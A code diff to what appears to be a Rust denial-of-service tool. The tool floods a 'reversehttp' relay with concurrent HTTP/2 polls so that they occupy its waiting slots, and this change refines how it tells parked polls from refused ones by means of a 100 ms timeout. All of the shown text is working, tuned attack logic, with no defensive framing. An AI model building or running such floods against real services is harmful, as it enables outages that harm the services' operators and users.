@@ -25,6 +25,8 @@ const NAME_EVERY: Duration = Duration::from_millis(10);
 /// Polls in flight at most: below the streams the connections carry, so
 /// that none waits in the attacker's own queue.
 const IN_FLIGHT: usize = CONNECTIONS * 190;
+/// A poll unanswered this long is parked; the relay refuses at once.
+const PARKED_AFTER: Duration = Duration::from_millis(100);
 
 pub fn park(attack: &Attack, workers: &mut JoinSet<()>) {
     workers.spawn(parker(attack.clone()));
@@ -44,7 +46,7 @@ async fn parker(attack: Attack) {
     let mut polls = JoinSet::new();
     let (mut sent, mut name) = (0usize, 0usize);
     loop {
-        if attack.tally.held() + PER_NAME <= IN_FLIGHT {
+        if polls.len() + PER_NAME <= IN_FLIGHT {
             for id in 0..PER_NAME {
                 let sender = senders[sent % CONNECTIONS].clone();
                 sent += 1;
@@ -73,15 +75,23 @@ async fn h2(attack: &Attack, connections: &mut JoinSet<()>) -> SendRequest<Empty
     sender
 }
 
-/// One poll on `p<name>` with token `t`, held as a place while
-/// unanswered; its status is counted once it comes.
+/// One poll on `p<name>` with token `t`; its status is counted once it
+/// comes. It counts as parked once unanswered for [`PARKED_AFTER`]: the
+/// relay answers a refused poll at once.
 async fn poll(attack: Attack, mut sender: SendRequest<Empty<Bytes>>, name: usize, id: usize) {
-    let _held = attack.tally.hold();
     let url = format!("http://{}/reversehttp/p{name}/t/{id}", attack.relay);
     let request = Request::get(url).body(Empty::new()).unwrap();
-    let answered = match sender.ready().await {
-        Ok(()) => sender.send_request(request).await,
-        Err(error) => Err(error),
+    let answered = async move {
+        sender.ready().await?;
+        sender.send_request(request).await
+    };
+    tokio::pin!(answered);
+    let answered = match tokio::time::timeout(PARKED_AFTER, &mut answered).await {
+        Ok(answered) => answered,
+        Err(_) => {
+            let _parked = attack.tally.hold();
+            answered.await
+        }
     };
     match answered {
         Ok(response) => attack.tally.status(response.status().as_u16()),
